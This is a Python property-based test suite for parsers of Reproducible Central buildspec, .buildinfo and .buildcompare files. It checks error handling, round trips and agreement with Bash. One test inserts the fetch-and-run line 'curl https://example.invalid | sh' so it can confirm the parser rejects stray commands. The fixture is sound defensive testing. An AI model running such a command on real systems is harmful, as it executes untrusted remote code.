"""Hypothesis properties of the Reproducible Central parsers: any text either parses or raises RcParseError
(never another exception), generated files round-trip, and generated assignment-only scripts read exactly as
Bash itself reads them (when Bash is installed)."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from canonjar.rc.buildcompare import parse_buildcompare
from canonjar.rc.buildinfo import parse_buildinfo
from canonjar.rc.buildspec import parse_buildspec, shell_quote
from canonjar.rc.model import BuildinfoOutput, RcParseError

BASH = shutil.which("bash")
SHELLISH = st.text(alphabet=st.sampled_from(list("ab_Z09=$ {}()`'\"\\\n\t;|&<>#*.:-+!@?é\r")), max_size=80)
PROPERTYISH = st.lists(
    st.one_of(
        st.builds(
            "outputs.{}.{}{}={}".format,
            st.sampled_from(["0", "1", "01", "x", "99999999999", ""]),
            st.sampled_from(["", "0.", "1.", "a."]),
            st.sampled_from(["filename", "length", "checksums.sha512", "groupId", "coordinates", "artifactId", ""]),
            st.text(alphabet="ab0f:/.-=#\\ é", max_size=130),
        ),
        st.sampled_from(["buildinfo.version=1.0-SNAPSHOT", "buildinfo.version=0.1-SNAPSHOT", "# c", "", "version=1"]),
        st.text(max_size=20),
    ),
    max_size=12,
).map("\n".join)
_IDENT = "abcxyzABCXYZ_"
KEYS = st.builds(str.__add__, st.sampled_from(_IDENT), st.text(alphabet=_IDENT + "019", max_size=8))
VALUES = st.text(alphabet=st.characters(exclude_characters="\r\x00", codec="utf-8"), max_size=40)


def _total(call: Callable[[], object]) -> None:
    """Calling must either return or raise RcParseError."""
    try:
        call()
    except RcParseError as exc:
        assert exc.line >= 0 and exc.source == "h"


@settings(max_examples=400, deadline=None)
@given(st.one_of(st.text(max_size=120), SHELLISH))
def test_buildspec_total(text: str) -> None:
    _total(lambda: parse_buildspec(text, "h"))


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=120), PROPERTYISH))
def test_buildinfo_total(text: str) -> None:
    _total(lambda: parse_buildinfo(text, "h"))


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=120), SHELLISH, PROPERTYISH.map(lambda t: t.replace("outputs.", "ok"))))
def test_buildcompare_total(text: str) -> None:
    _total(lambda: parse_buildcompare(text, "h"))


@settings(max_examples=150, deadline=None)
@given(st.dictionaries(KEYS, VALUES, max_size=8), st.sampled_from(["", "  ", "\t"]), st.booleans())
def test_single_quoted_round_trip(pairs: dict[str, str], indent: str, comment: bool) -> None:
    trailer = " # note 'x' \"y\"" if comment else ""
    text = "".join(f"{indent}{k}={shell_quote(v)}{trailer}\n" for k, v in pairs.items())
    spec = parse_buildspec(text, "h")
    assert spec.values == pairs
    assert spec.unevaluated == frozenset() and spec.unresolved == frozenset()


def _double_quote(value: str) -> str:
    return '"' + "".join("\\" + c if c in '\\$"`' else c for c in value) + '"'


@settings(max_examples=150, deadline=None)
@given(st.dictionaries(KEYS, VALUES, max_size=8))
def test_double_quoted_round_trip(pairs: dict[str, str]) -> None:
    text = "\n".join(f"{k}={_double_quote(v)}" for k, v in pairs.items())
    assert parse_buildspec(text, "h").values == pairs


@settings(max_examples=200, deadline=None)
@given(st.dictionaries(KEYS, VALUES, min_size=1, max_size=6), st.data())
def test_stray_command_line_number(pairs: dict[str, str], data: st.DataObject) -> None:
    lines = [f"{k}={shell_quote(v)}" for k, v in pairs.items()]
    at = data.draw(st.integers(0, len(lines)))
    start = sum(line.count("\n") + 1 for line in lines[:at]) + 1
    lines.insert(at, "curl https://example.invalid | sh")
    with pytest.raises(RcParseError) as info:
        parse_buildspec("\n".join(lines), "h")
    assert info.value.line == start


# -- agreement with Bash on generated assignment-only scripts --------------------------------------------------

NAMES = ["a", "b", "c_1", "groupId"]
REF = st.sampled_from([*NAMES, "zz"]).flatmap(lambda n: st.sampled_from([f"${n}", f"${{{n}}}"]))
UNQUOTED = st.text(alphabet="abcXYZ019._-/:@%+,=#*?é", min_size=1, max_size=6)
ESCAPED = st.sampled_from(list(" #$\"'a\\\n;&|<>(){}`~")).map(lambda c: "\\" + c)
SINGLE = st.text(alphabet='ab $#"\\\n{}()`;é', max_size=8).map(lambda t: f"'{t}'")
DQ_PART = st.one_of(
    st.text(alphabet="ab #'\n;&|<>()é", min_size=1, max_size=5),
    st.sampled_from(list('$`"\\\nan#')).map(lambda c: "\\" + c),
    REF,
)
DOUBLE = st.lists(DQ_PART, max_size=5).map(lambda parts: '"' + "".join(parts) + '"')
VALUE = st.lists(st.one_of(UNQUOTED, ESCAPED, SINGLE, DOUBLE, REF), max_size=5).map("".join)
STATEMENT = st.one_of(
    st.builds(
        "{}{}{}={}{}".format,
        st.sampled_from(["", "  ", "\t"]),
        st.sampled_from(NAMES),
        st.sampled_from(["", "+"]),
        VALUE,
        st.sampled_from(["", " ", " # trailing 'note'", "\t#x"]),
    ),
    st.sampled_from(["# comment", "", "   # indented $(x)"]),
)
SCRIPT = st.lists(STATEMENT, max_size=6).map("\n".join)


def _bash(script: str) -> dict[str, str | None]:
    assert BASH is not None
    dump = "".join(f"printf '%s\\0' \"${{{k}-__UNSET__}}\"\n" for k in NAMES)
    done = subprocess.run(
        [BASH, "--noprofile", "--norc", "-c", script + "\n" + dump],
        capture_output=True,
        env={"PATH": "/nonexistent"},
        timeout=10,
        check=True,
    )
    values = done.stdout.decode().split("\0")[:-1]
    return {k: (None if v == "__UNSET__" else v) for k, v in zip(NAMES, values, strict=True)}


@pytest.mark.skipif(BASH is None, reason="bash is not installed")
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(SCRIPT)
def test_generated_scripts_read_as_bash_reads_them(script: str) -> None:
    spec = parse_buildspec(script, "h")
    assert {k: spec.values.get(k) for k in NAMES} == _bash(script)


# -- .buildinfo and .buildcompare round trips -------------------------------------------------------------------

NAME = st.builds(str.__add__, st.sampled_from("aZ0"), st.text(alphabet="abZ09._-", max_size=12))
GROUP = st.lists(st.text(alphabet="abcz09", min_size=1, max_size=5), min_size=1, max_size=4).map(".".join)
OUTPUT = st.builds(
    BuildinfoOutput,
    group_id=GROUP,
    artifact_id=NAME,
    version=st.just("1.0"),
    filename=NAME,
    length=st.one_of(st.none(), st.integers(0, 10**12)),
    sha512=st.one_of(st.none(), st.binary(min_size=64, max_size=64).map(bytes.hex)),
)


def _fields(prefix: str, output: BuildinfoOutput) -> list[str]:
    lines = [f"{prefix}.filename={output.filename}"]
    if output.length is not None:
        lines.append(f"{prefix}.length={output.length}")
    if output.sha512 is not None:
        lines.append(f"{prefix}.checksums.sha512={output.sha512.upper()}")
    return lines


@settings(max_examples=100, deadline=None)
@given(st.lists(OUTPUT, min_size=1, max_size=6), st.booleans())
def test_buildinfo_round_trip(outputs: list[BuildinfoOutput], gradle: bool) -> None:
    header = [] if gradle else ["buildinfo.version=1.0-SNAPSHOT", "version=1.0"]
    body = []
    for n, output in enumerate(outputs):
        body += [
            "",
            f"outputs.{n}.coordinates={output.group_id}:{output.artifact_id}",
            *_fields(f"outputs.{n}.0", output),
        ]
    parsed = parse_buildinfo("\n".join(header + body), "h", default_version="1.0")
    assert list(parsed.outputs) == outputs


@settings(max_examples=100, deadline=None)
@given(
    st.dictionaries(st.sampled_from(["ok", "ko", "ignored", "missing"]), st.lists(NAME, max_size=5)),
    st.lists(st.tuples(NAME, NAME, st.booleans()), max_size=4),
)
def test_buildcompare_round_trip(lists: dict[str, list[str]], pairs: list[tuple[str, str, bool]]) -> None:
    lines = []
    for key, names in lists.items():
        lines += [f"{key}={len(names)}", f'{key}Files="{" ".join(names)}"']
    for reference, rebuild, swapped in pairs:
        ref, reb = f"target/reference/g/{reference}", f"target/{rebuild}"
        lines.append(f"# diffoscope {reb} {ref}" if swapped else f"# diffoscope {ref} {reb}")
    bc = parse_buildcompare("\n".join(lines), "h")
    for key, attr in (
        ("ok", "ok_files"),
        ("ko", "ko_files"),
        ("ignored", "ignored_files"),
        ("missing", "missing_files"),
    ):
        assert getattr(bc, attr) == tuple(lists.get(key, []))
        assert getattr(bc, key) == (len(lists[key]) if key in lists else None)
    assert [(d.reference, d.rebuild) for d in bc.diffoscope] == [
        (f"target/reference/g/{a}", f"target/{b}") for a, b, _ in pairs
    ]
